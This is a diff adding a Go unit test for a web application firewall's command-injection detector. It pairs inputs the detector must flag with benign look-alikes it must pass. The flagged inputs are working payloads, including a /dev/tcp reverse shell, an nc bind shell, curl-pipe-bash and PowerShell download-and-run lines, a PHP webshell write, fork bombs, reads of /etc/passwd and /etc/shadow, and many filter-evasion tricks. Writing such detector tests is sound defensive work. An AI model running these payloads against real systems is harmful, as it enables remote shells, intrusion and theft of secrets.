@@ -1,0 +1,166 @@
+package detect
+
+import (
+	"testing"
+
+	"github.com/rampartwaf/rampart/internal/request"
+)
+
+func TestCMDEXE(t *testing.T) {
+	tests := []struct {
+		name  string
+		value string
+		want  bool
+	}{
+		// separators and command classes
+		{"semicolon strong", "127.0.0.1; whoami", true},
+		{"semicolon bare", "x;ls", true},
+		{"pipe bare between pipes", "a.html|id|", true},
+		{"and and with flag", "foo && ls -la /", true},
+		{"newline path", "x\ncat /etc/passwd", true},
+		{"text newline", `\n/usr/bin/id\n`, true},
+		{"text newline bare", `a;id\n`, true},
+		{"backtick", "name=`id`", true},
+		{"substitution any listed", "$(cmd)", true},
+		{"process substitution", "<(cat file)", true},
+		{"pipe into shell glued", "whxami|sh ``", true},
+		{"pipe into shell with comment", `echo "foo" | tr x o | sh #`, true},
+		{"shell alone after and", "d=/dev&&(sh)0>$d/tcp/10.0.0.1/80", true},
+		{"network tool with host", "x; ping -c 3 10.0.0.1", true},
+		{"sleep number", "1 | sleep 5", true},
+		{"prefix command", "x; nohup ifconfig", true},
+		{"windows switch", "view=image.jpg&bcdboot /r file.txt", true},
+		{"regedit", "cmd=; regedit /E c:\\x\\f.txt HKEY_CURRENT_USER\\Key", true},
+		{"at time", ";at 2:00 \"echo test\"", true},
+		{"vim shell escape", ";vim dddd +silent\\\\ \\!whoami +wq", true},
+		{"chain of commands", "cd /;cd etc;column passwd", true},
+		// PowerShell
+		{"iwr after semicolon", ";iwr http://example.com/x.ps1", true},
+		{"iex iwr", "; iex (iwr http://10.0.0.1:8000/x.ps1)", true},
+		{"cmdlet", "powershell Invoke-WebRequest -Uri http://x/y", true},
+		{"cmd /c", "a & cmd /c dir", true},
+		// evasions
+		{"quotes in word", "; w'h'o'am'i", true},
+		{"backslash in word", "x;who\\ami", true},
+		{"empty expansion", "x;c$@at /etc/passwd", true},
+		{"ifs", "cat${IFS}/etc/passwd", true},
+		{"plus as space", "www.example.com;c$@at+/et$@c/pas$@swd", true},
+		{"empty backticks", "127.0.0.1;wh``oami", true},
+		{"empty subst in word", "pi$()ng 127.0.0.1", true},
+		{"doubled quotes", `""p""y""t""h""o""n""3"" ""x""`, true},
+		{"glob bin dir", "x;/???/??t /etc/passwd", true},
+		{"glob range bin dir", "/usr/[a-z]in/bash", true},
+		{"brace expansion", "{cat,/etc/passwd}", true},
+		{"brace empty element", "{,ifconfig}", true},
+		{"brace glued", "{l,-lh}s", true},
+		{"variable assembly", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", true},
+		{"variable command with flag", "a=nc&&$a -nlvp 555", true},
+		{"shell variable -c", "$SHELL -c \"echo hi\"", true},
+		{"empty expansion before command", ";$a cat test.txt", true},
+		{"param expansion slice", "${PATH:0:1}etc${PATH:0:1}passwd", true},
+		{"version suffix", ";gcc10.1<<<void main(){}", true},
+		// whole values that are hostile by themselves
+		{"whoami alone", "whoami", true},
+		{"ifconfig then separator", "ifconfig;. rm -rf /", true},
+		{"cat system file", "cat /etc/passwd", true},
+		{"list root", "ls -l /root", true},
+		{"bind shell", "nc -lvvp 4444 -e /bin/sh", true},
+		{"python inline code", "python -c 'import os'", true},
+		{"binary path", "/bin/sh -i", true},
+		{"write webshell", `echo "<?php system($_GET['c']); ?>" > cmd.php`, true},
+		{"net user", "net user hacker P@ss /add", true},
+		{"reg add", `reg add "HKLM\System\X" /v fDeny /t REG_DWORD /d 0 /f`, true},
+		{"alias definition", "alias a=b", true},
+		{"bin relative", "bin/visudo", true},
+		{"wget output", "wget http://x.example/a.sh -O /tmp/a.sh", true},
+		// constructs
+		{"dev tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
+		{"shellshock", "() { :;}; /bin/bash -c id", true},
+		{"fork bomb", ":(){ :|:& };:", true},
+		{"fork bomb named", "f(){ f & f; };f", true},
+		{"system call", "system('id');", true},
+		{"shell_exec call", `shell_exec("cat config.php")`, true},
+		{"ssh proxycommand", "-oProxyCommand=sh -c id", true},
+		{"wrapper option", ";c89 -wrapper sh,-c,id .", true},
+		{"batch for", "for /f %i in ('dir') do echo %i", true},
+		{"batch if", "IF EXIST C:\\pagefile.sys CMD", true},
+		{"ssi exec", `<!--#exec cmd="/usr/bin/id"-->`, true},
+		{"smtp injection", "x\r\nMAIL FROM:<a@b.example>", true},
+		{"imap injection", "\r\na001 STATUS INBOX (MESSAGES)", true},
+		{"sqlite shell", ";\n.shell nc 10.0.0.1 6666 -e sh", true},
+		{"command line then hostile", "ls -la; cat /etc/shadow", true},
+		{"command line with substitution", "curl https://x.example/a || `curl https://x.example/b`", true},
+		{"curl pipe bash", "curl -sL https://x.example/setup.sh | sudo bash -", true},
+		{"newline opens value", "\nid\n", true},
+		{"prose with hostile command", "nice product; wget http://x.example/s -O /tmp/s", true},
+
+		// benign
+		{"prose semicolon", "I like cats; dogs are fine too", false},
+		{"cat food", "cat food; dog food", false},
+		{"tom and jerry", "Tom & Jerry", false},
+		{"price", "red;$5 each", false},
+		{"pipe columns", "name|id|email", false},
+		{"pipe key", "name|id=5", false},
+		{"skills pipe", "Java | Python | Go", false},
+		{"whole command line", "ls -la", false},
+		{"help desk tar", "tar -xzf site-backup.tar.gz", false},
+		{"help desk ansible", "ansible-playbook site.yml --check", false},
+		{"git status", "git status", false},
+		{"pip install", "pip install requests", false},
+		{"chmod", "chmod +x deploy.sh", false},
+		{"markdown inline code", "Run `ls -la` to see the files", false},
+		{"jquery", "$('#id').hide(); $(this).show()", false},
+		{"template literal", "Hello ${name}, welcome", false},
+		{"compose default", "${PORT:-8080}", false},
+		{"stack trace", "TypeError: x is undefined\n    at $g (https://cdn.example.com/app.js:110:8)\n    at 3gAo (https://cdn.example.com/a.js:1:2)", false},
+		{"graphql", "query {\n  viewer {\n    id\n    name\n  }\n}", false},
+		{"forum post with commands", "Hi all, I ran the following on my server\nls -la /var/www\nand it shows nothing. What am I missing?", false},
+		{"shebang script", "#!/bin/sh\nset -x\nlscpu\nfdisk -l\n", false},
+		{"field list braces", "fields={id,name,email}", false},
+		{"csv semicolons", "date;time;type;value", false},
+		{"doubleclick path", "activityi;src=5406241;type=global;cat=wac-v0;ord=1", false},
+		{"json in value", `{"0":";false","1":"probably;true"}`, false},
+		{"minified js", "function(e){var n=e.id,r=e.name;return t(n,r)}", false},
+		{"random token", "CUIJ<r)ld^$< PH+|nc>oLjPc).#ka0vw7y", false},
+		{"random token 2", "@RY~UT`.An!dcB%l;w>szx#)7X7KQ=.8e3", false},
+		{"search for quoted word", "pass'w'd", false},
+		{"apostrophe", "I'd like to order; who's in charge?", false},
+		{"windows path", `C:\Program Files\App\bin\app.exe`, false},
+		{"file name", "report-2024;final.pdf", false},
+		{"url", "https://example.com/search?q=a&b=c|d", false},
+		{"email", "jane.doe@example.org", false},
+		{"markdown", "## Steps\n- open the *file*\n- click **Save**", false},
+		{"emoticon", "see you <3 :)", false},
+		{"math", "if a<b>c then x==y", false},
+		{"css important", "color: red !important", false},
+		{"date time prose", "Meeting at 10:30; bring the date sheet", false},
+		{"prose at", "Go to store.\nAt the store, shop.", false},
+		{"exclamation prose", "Wow! ls is a command", false},
+		{"python compare", "if x == 1: print(x)", false},
+		{"env file", "DB_HOST=localhost\nDB_PORT=5432", false},
+		{"sleep prose", "Time to sleep; 8 hours is plenty", false},
+		{"binary blob", "\x01\x02ª\x0fJ[YSW\x03J<k\x17&@eX\\&\x01\x04c(", false},
+		{"sensor like", "2;3159108;3424819;11,0,0,0,2,0;8VF0Me=xwYVVaF-iJq0pf*;j;vYU*t7w+Q6$GeO+.u&x!gpU8", false},
+		{"makefile var", "$(CC) -o app main.c", false},
+		{"phone", "+1 (555) 010-9999", false},
+		{"semicolon list of names", "Smith, J.; Doe, A.; Roe, R.", false},
+		{"command line with and", "cd /var/www/html && ls -la", false},
+		{"command line with pipe", "grep -r \"foo\" . | wc -l", false},
+		{"install instructions", "To fix it: sudo apt-get update && sudo apt-get install -y nginx", false},
+		{"prose pipes", "Use `cat file.txt | sort | uniq -c` to count lines", false},
+		{"prose net user", "net income | net user growth | net promoter score", false},
+		{"prose separators", "Use ; to separate commands, e.g. ls; pwd", false},
+		{"python module", "python3 -m venv .venv", false},
+		{"git chain", "git commit -m \"fix: bug\" && git push", false},
+		{"mkdir chain", "mkdir -p build && cd build && cmake ..", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := &request.Param{Source: request.SourceForm, Name: "v", Value: tt.value}
+			frag, got := matchCMDEXE(p, tt.value)
+			if got != tt.want {
+				t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tt.value, got, frag, tt.want)
+			}
+		})
+	}
+}
